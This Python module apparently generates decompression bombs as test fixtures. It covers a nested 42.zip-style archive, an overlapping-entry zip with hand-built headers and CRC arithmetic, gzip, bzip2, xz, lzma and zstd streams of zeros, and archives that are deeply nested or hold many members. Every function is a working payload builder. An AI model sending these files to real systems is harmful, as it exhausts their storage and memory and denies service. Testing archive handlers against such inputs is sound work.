"""Files that unpack to far more than they are, each made by a few lines: nothing of them is kept in the repository."""

import bz2
import gzip
import io
import lzma
import struct
import zipfile
import zlib
from collections.abc import Callable

from quines import gzip_quine, zip_quine

MIB = 1 << 20


def nested_zips(levels: int = 6, fold: int = 16, zeros: int = 10 * MIB) -> bytes:
    """As 42.zip: each zip holds the same smaller one many times, the innermost zeros: 10 MiB * 16^6, 160 TiB."""
    octets, name = bytes(zeros), "0.dll"
    for level in range(levels):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(fold):
                archive.writestr(name.replace("0", f"{number:x}", 1), octets)
        octets, name = stream.getvalue(), f"0{level}.zip"
    return octets


def overlapping_zip(files: int = 200, zeros: int = 10 * MIB) -> bytes:
    """A zip whose files share one kernel of zeros, each quoting the header of the next in a stored block: 2 GiB in some
    20 KB, without a zip inside of a zip (D. Fifield, "A better zip bomb", WOOT 2019).
    """
    machine = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = machine.compress(bytes(zeros)) + machine.flush()
    checksum, size = zlib.crc32(bytes(zeros)), zeros
    entries: list[tuple[bytes, int, int, int, int]] = []
    """Name, checksum, both sizes, and how many octets from its header to the end of the data."""
    for number in reversed(range(files)):
        name = b"%03d" % number
        header = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 33, checksum, len(data), size, len(name), 0) + name
        entries.append((name, checksum, len(data), size, len(header) + len(data)))
        quoted = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF) + header
        checksum, size = _checksum_behind(header, checksum, size), size + len(header)
        data = quoted + data
    body = data[5:]
    directory = b"".join(
        struct.pack(
            "<4s6H3I5H2I",
            *(b"PK\1\2", 20, 20, 0, 8, 0, 33, crc, packed, unpacked, len(name), 0, 0, 0, 0, 0, len(body) - distance),
        )
        + name
        for name, crc, packed, unpacked, distance in reversed(entries)
    )
    return body + directory + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, files, files, len(directory), len(body), 0)


def _checksum_behind(header: bytes, checksum: int, size: int) -> int:
    """CRC-32 of `header` and what has that checksum and size, without the latter."""
    # The state that `header` leaves runs through `size` zeros; CRC-32 is linear in it.
    shift = [1 << (31 - bit) for bit in range(32)]
    matrix = [_zero_octet(column) for column in shift]
    result = zlib.crc32(header)
    while size:
        if size & 1:
            result = _apply(matrix, result)
        matrix = [_apply(matrix, column) for column in matrix]
        size >>= 1
    return result ^ checksum


def _zero_octet(state: int) -> int:
    for _ in range(8):
        state = (state >> 1) ^ (0xEDB88320 if state & 1 else 0)
    return state


def _apply(matrix: list[int], vector: int) -> int:
    """`matrix` holds what each bit becomes, the highest first."""
    result = 0
    for bit, column in enumerate(matrix):
        if vector >> (31 - bit) & 1:
            result ^= column
    return result


def gzip_of_zeros(size: int = 10 << 30) -> bytes:
    """10 GiB of zeros in a gzip file in a gzip file."""
    return gzip.compress(gzip.compress(bytes(10 * MIB), mtime=0) * (size // (10 * MIB)), mtime=0)


def bzip2_of_zeros(size: int = 10 << 30) -> bytes:
    """10 GiB of zeros, 45 octets for each 32 MiB."""
    return bz2.compress(bytes(32 * MIB)) * (size // (32 * MIB))


def xz_of_zeros(size: int = 1 << 30) -> bytes:
    """1 GiB of zeros in 150 KB."""
    return lzma.compress(bytes(32 * MIB), preset=0) * (size // (32 * MIB))


def lzma_of_zeros(size: int = 256 * MIB) -> bytes:
    """256 MiB of zeros in 40 KB."""
    return lzma.compress(bytes(size), lzma.FORMAT_ALONE, preset=0)


def zstd_of_zeros(size: int = 10 << 30) -> bytes:
    """10 GiB of zeros in blocks of 4 octets (RFC 8878 3.1.1.2.3)."""
    block = 128 * 1024
    header = b"\x28\xb5\x2f\xfd" + b"\0" + bytes((7 << 3,))
    count = size // block

    def blocks(number: int, *, last: bool) -> bytes:
        return (int(last) | 1 << 1 | block << 3).to_bytes(3, "little") + b"\0" if number else b""

    return header + blocks(1, last=False) * (count - 1) + blocks(1, last=True)


def many_members(count: int = 3000) -> bytes:
    """A zip with that many empty files."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for number in range(count):
            archive.writestr(f"{number}.txt", b"")
    return stream.getvalue()


def wide_gzip(levels: int = 1000) -> bytes:
    """A text that is compressed a thousand times."""
    octets = b"X5O!"
    for _ in range(levels):
        octets = gzip.compress(octets, 1, mtime=0)
    return octets


BOMBS: dict[str, Callable[[], bytes]] = {
    "42.zip": nested_zips,
    "overlap.zip": overlapping_zip,
    "r.gz": gzip_quine,
    "again.zip": zip_quine,
    "zeros.gz.gz": gzip_of_zeros,
    "zeros.bz2": bzip2_of_zeros,
    "zeros.xz": xz_of_zeros,
    "zeros.lzma": lzma_of_zeros,
    "zeros.zst": zstd_of_zeros,
    "many.zip": many_members,
    "deep.gz": wide_gzip,
}
